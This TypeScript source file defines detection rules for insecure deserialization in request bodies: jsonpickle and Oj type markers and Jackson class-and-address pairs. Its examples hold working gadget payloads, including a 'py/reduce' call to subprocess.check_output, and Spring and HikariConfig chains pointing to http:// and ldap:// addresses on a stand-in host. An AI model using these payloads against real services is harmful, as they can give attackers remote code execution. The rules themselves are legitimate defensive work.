import { confidence } from '../../placement/confidence.ts';
import type { Match, RequestMatch, RequestRule, ValueRule } from '../rule.ts';

/** Members by which jsonpickle and Oj make objects: `{"py/reduce": …}`, `{"^o": …}`. */
export const typedName: ValueRule = {
  id: 'deserialization.typed-name',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'is a field from which the parser of the body creates an object or calls a function',
  trigger: { literals: [['py/', '^o', '^u']] },
  examples: [
    { body: { 'py/reduce': [{ 'py/function': 'subprocess.check_output' }, ['id']] } },
    { body: { '^o': 'Gem::Installer', io: 'x' } },
  ],
  lookalikes: [
    { body: { 'py/version': '3', 'copy/object': 'x' } },
    { body: { text: 'jsonpickle writes py/reduce and Oj writes ^o' } },
    { body: { '^oo^': 'cat' } },
  ],
  judge(subject): Match | undefined {
    if (subject.where !== 'name' || !typeMember.test(subject.text)) return undefined;
    return { start: 0, end: subject.text.length };
  },
};

const typeMember =
  /(?:^|\.)(?:py\/(?:object|reduce|type|function|newargs(?:ex)?|newobj|initargs|state|repr|mod)|\^[ou])$/;

/** Jackson's pair of a class and what it is made of: `["package.Class", "http://…"]`. */
export const typedPair: RequestRule = {
  id: 'deserialization.typed-pair',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'pairs a class with an address or fields from which the parser would create an object',
  examples: [
    {
      body: {
        x: [
          'org.springframework.context.support.FileSystemXmlApplicationContext',
          'http://a.test/x',
        ],
      },
    },
    { body: { o: ['com.zaxxer.hikari.HikariConfig', { metricRegistry: 'ldap://a.test/x' }] } },
  ],
  lookalikes: [
    { body: { classes: ['com.example.shop.Cart', 'com.example.shop.Order'] } },
    { body: { sites: ['www.example.com', 'https://www.example.com/'] } },
    { body: { stack: ['com.example.Main', { line: 3 }] } },
  ],
  judgeRequest(request): RequestMatch | undefined {
    const { fields } = request;
    const field = fields.findIndex((one, index) => {
      if (one.where !== 'value' || one.node.key !== 0 || !className.test(one.text)) return false;
      const next = fields[index + 1];
      if (next === undefined) return false;
      const isBeside = next.node.parent === one.node.parent;
      if (isBeside) return next.where === 'value' && address.test(next.text);
      const value = fields[index + 2];
      const isInside = next.node.parent?.parent === one.node.parent && value?.node === next.node;
      return isInside && value !== undefined && address.test(value.text);
    });
    return field < 0 ? undefined : { field, start: 0, end: fields[field]?.text.length ?? 0 };
  },
};

const className = /^(?:[a-z][a-z0-9_]{0,30}\.){2,8}[A-Z]\w{0,60}$/;
const address = /^(?:jdbc:\w|(?:https?|ldaps?|rmi|ftp|file|jar):\/?\/)/i;
